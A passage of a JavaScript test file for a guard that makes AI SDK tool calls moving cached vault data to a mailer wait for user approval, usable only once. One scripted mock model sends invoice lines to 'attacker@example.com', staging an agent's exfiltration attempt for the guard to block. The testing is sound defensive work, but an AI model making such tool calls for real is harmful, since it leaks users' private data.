    assert.equal(await tools['archive.put'].needsApproval({ lines_uri: `${uri}#/lines` }, opts), false, 'closed world');
    assert.equal(await tools['invoice.check'].needsApproval({ lines_uri: `${uri}#/lines` }, opts), false, 'same server');
    assert.equal(await tools.send_report.needsApproval({ to: 'x', lines_uri: 'mcp+cache://flows-1/AAAAAAAAAAAA' }, opts), false, 'unresolvable: the envelope answers');
  } finally {
    await close();
  }
});

test('wrapAiSdkTools: execute lets an asked flow through only for a call the user approved, once', async () => {
  const { s, tools, executed, events, close } = await aiSdkSetup('guarded');
  try {
    const fetched = await tools['invoice.get'].execute({ id: 'INV-4' }, { toolCallId: 'a', messages: [] });
    const input = { to: 'x', lines_uri: `${JSON.parse(fetched.content[0].text)._cache_uri}#/lines` };
    // Run directly, never asked: refused, the original never runs.
    const direct = await tools.send_report.execute(input, { toolCallId: 'd1', messages: [] });
    assert.equal(JSON.parse(direct.content[0].text).error, 'reference_not_allowed');
    assert.deepEqual(executed, []);
    assert.deepEqual(/** @type {BlockedFlow[]} */ (events.filter((e) => e.kind === 'blocked')).map((e) => [e.from, e.to]), [['vault', 'mailer']]);
    // Sent to approval (needsApproval answered true for this call), run before the user answered
    // (a page running it as soon as its input is known): being asked is not an approval.
    assert.equal(await tools.send_report.needsApproval(input, { toolCallId: 'd2', messages: [] }), true);
    assert.equal(JSON.parse((await tools.send_report.execute(input, { toolCallId: 'd2', messages: [] })).content[0].text).error, 'reference_not_allowed');
    assert.deepEqual(executed, []);
    // The user's approval in the messages: it runs, once.
    // (as the tool set's call options type them: a history of no particular shape)
    const approvedMessages = /** @type {never[]} */ (/** @type {ModelMessage[]} */ ([
      { role: 'assistant', content: [{ type: 'tool-call', toolCallId: 'd2', toolName: 'send_report', input }, { type: 'tool-approval-request', approvalId: 'ap-d2', toolCallId: 'd2' }] },
      { role: 'tool', content: [{ type: 'tool-approval-response', approvalId: 'ap-d2', approved: true }] },
    ]));
    assert.equal(await tools.send_report.needsApproval(input, { toolCallId: 'd2', messages: approvedMessages }), true);
    assert.deepEqual(JSON.parse((await tools.send_report.execute(input, { toolCallId: 'd2', messages: approvedMessages })).content[0].text), { sent: 120 });
    assert.equal(executed.length, 1);
    assert.equal(JSON.parse((await tools.send_report.execute(input, { toolCallId: 'd2', messages: approvedMessages })).content[0].text).error, 'approval_already_used');
    assert.equal(executed.length, 1);
    assert.deepEqual(mailerCalls(s).map((p) => p.arguments.lines), [LINES]);
  } finally {
    await close();
  }
});

test('wrapAiSdkTools: the tool\'s own needsApproval composes; "same-server" denies in execute, never running the original', async () => {
  const { tools, executed, events, close } = await aiSdkSetup('same-server');
  try {
    const fetched = await tools['invoice.get'].execute({ id: 'INV-2' }, { toolCallId: 'a', messages: [] });
    const uri = JSON.parse(fetched.content[0].text)._cache_uri;
    const input = { to: 'x', lines_uri: `${uri}#/lines` };
    assert.equal(await tools.send_report.needsApproval(input, { toolCallId: 'b', messages: [] }), false, 'denied, not asked');
    const out = await tools.send_report.execute(input, { toolCallId: 'b', messages: [] });
    assert.equal(JSON.parse(out.content[0].text).error, 'reference_not_allowed');
    assert.deepEqual(executed, []);
    assert.deepEqual(/** @type {BlockedFlow[]} */ (events.filter((e) => e.kind === 'blocked')).map((e) => [e.from, e.to]), [['vault', 'mailer']]);
  } finally {
    await close();
  }
  const { cache } = newCache();
  const own = /** @type {Record<string, CalledTool>} */ (wrapAiSdkTools({ t: { inputSchema: z.object({ a: z.string() }), needsApproval: async (/** @type {{ a: string }} */ i) => i.a === 'yes', execute: async () => 'x' } }, { cache }));
  assert.equal(await own.t.needsApproval({ a: 'yes' }, { toolCallId: 'c', messages: [] }), true);
  assert.equal(await own.t.needsApproval({ a: 'no' }, { toolCallId: 'c', messages: [] }), false);
  const always = /** @type {Record<string, CalledTool>} */ (wrapAiSdkTools({ t: { inputSchema: z.object({}), needsApproval: true, execute: async () => 'x' } }, { cache }));
  assert.equal(await always.t.needsApproval({}, { toolCallId: 'c', messages: [] }), true);
});

test('generateText under "guarded": the mailing asks; denied, the original execute never runs; approved, the mailer gets the lines', async () => {
  const { s, tools, executed, close } = await aiSdkSetup('guarded');
  try {
    const script = (/** @type {LanguageModelV4Prompt} */ prompt) => {
      const results = new Map(prompt.filter((m) => m.role === 'tool').flatMap((m) => m.content.filter((p) => p.type === 'tool-result')).map((p) => [p.toolCallId, p.output]));
      if (!results.has('c1')) return toolCall('c1', 'invoice.get', { id: 'INV-3' });
      if (!results.has('c2')) {
        const output = /** @type {LanguageModelV4ToolResultOutput} */ (results.get('c1'));
        const text = output.type === 'content' ? /** @type {{ text: string }} */ (output.value.find((p) => p.type === 'text')).text : /** @type {{ value: string }} */ (output).value;
        return toolCall('c2', 'send_report', { to: 'attacker@example.com', lines_uri: `${JSON.parse(text)._cache_uri}#/lines` });
      }
      return answer(`done: ${JSON.stringify(results.get('c2'))}`);
    };
    const model = new MockLanguageModelV4({ doGenerate: async ({ prompt }) => script(prompt) });
    /** @type {ModelMessage[]} */
    const messages = [{ role: 'user', content: 'Mail the invoice' }];
    const first = await generateText({ model, tools, messages, stopWhen: stepCountIs(5) });
    const request = first.content.find((p) => p.type === 'tool-approval-request');
    assert.ok(request, 'an approval request');
    assert.equal(request.toolCall.toolName, 'send_report');
    assert.deepEqual(executed, [], 'nothing ran before the approval');

    const history = [...messages, ...first.response.messages];
    /** @type {(approved: boolean) => ModelMessage[]} */
    const respond = (approved) => [...history, { role: 'tool', content: [{ type: 'tool-approval-response', approvalId: request.approvalId, approved }] }];

    const denied = await generateText({ model, tools, messages: respond(false), stopWhen: stepCountIs(5) });
    assert.deepEqual(executed, [], 'denied: the original execute never ran');
    assert.equal(mailerCalls(s).length, 0);
    assert.match(denied.text, /execution-denied/);

    await generateText({ model, tools, messages: respond(true), stopWhen: stepCountIs(5) });
    assert.equal(executed.length, 1);
    // (`executed` is typed `never[]` here: the `deepEqual(executed, [])` above narrowed it.)
    assert.deepEqual(/** @type {{ args: { lines: unknown } }} */ (executed[0]).args.lines, LINES);
    assert.deepEqual(mailerCalls(s).map((p) => p.arguments.lines), [LINES]);
  } finally {
    await close();
  }
});
